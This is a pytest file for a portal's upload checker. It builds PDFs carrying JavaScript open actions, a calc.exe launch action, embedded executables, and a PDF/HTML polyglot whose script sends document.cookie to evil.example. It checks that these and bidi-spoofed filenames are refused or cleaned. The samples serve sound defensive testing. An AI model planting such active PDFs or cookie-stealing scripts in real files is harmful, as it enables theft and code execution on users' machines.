"""Uploads (issue 15): PDFs that act when staff open them, data hidden after the PDF, and file names
that display as something else are refused or cleaned."""
import io

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from messaging.tests.factories import pdf_bytes, upload
from portal.errors import UploadError
from portal.uploads import safe_filename, upload_check


def _pdf(change):
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _open_action_js(writer):
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)


def _launch_on_page_open(writer):
    launch = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(launch)})


def _document_javascript(writer):
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    names = ArrayObject([TextStringObject("bonjour"), writer._add_object(script)])
    writer._root_object[NameObject("/Names")] = DictionaryObject({
        NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names}),
    })


def _embedded_file(writer):
    writer.add_attachment("virus.exe", b"MZ\x90\x00")


@pytest.mark.parametrize("change, message", [
    (_open_action_js, "action exécutée à l'ouverture"),
    (_launch_on_page_open, "lance un programme"),
    (_document_javascript, "JavaScript"),
    (_embedded_file, "fichier joint caché"),
], ids=["openaction-javascript", "launch-action", "document-javascript", "embedded-file"])
def test_active_pdf_is_refused_with_a_french_message(change, message):
    with pytest.raises(UploadError, match=message) as refused:
        upload_check(upload("facture.pdf", _pdf(change)))
    assert "il est refusé" in refused.value.message


def test_pdf_with_a_harmless_open_action_is_accepted():
    def go_to_first_page(writer):
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject({
            NameObject("/S"): NameObject("/GoTo"), NameObject("/D"): writer.pages[0].indirect_reference,
        }))
    assert upload_check(upload("scan.pdf", _pdf(go_to_first_page))) == "application/pdf"


def test_pdf_followed_by_html_script_is_refused():
    polyglot = pdf_bytes() + b"\n<html><script>fetch('https://evil.example/'+document.cookie)</script></html>\n"
    with pytest.raises(UploadError, match="données après la fin du document PDF"):
        upload_check(upload("justificatif.pdf", polyglot))


def test_pdf_with_trailing_newlines_only_is_accepted():
    assert upload_check(upload("justificatif.pdf", pdf_bytes() + b"\r\n\n")) == "application/pdf"


def test_file_names_lose_control_and_bidi_characters_and_are_bounded():
    assert safe_filename("facture\u202egpj.exe") == "facturegpj.exe"
    assert safe_filename("a\u2066b\u200fc\x00d\x1b.pdf") == "abcd.pdf"
    assert safe_filename("C:\\Users\\moi\\..\\attestation.pdf") == "attestation.pdf"
    assert safe_filename("..\u202e") == "fichier"
    long = safe_filename("é" * 400 + ".pdf")
    assert len(long) == 150 and long.endswith(".pdf")


def test_upload_error_shows_the_cleaned_name():
    with pytest.raises(UploadError) as refused:
        upload_check(upload("facture\u202egpj.pdf", b""))
    assert "\u202e" not in refused.value.message
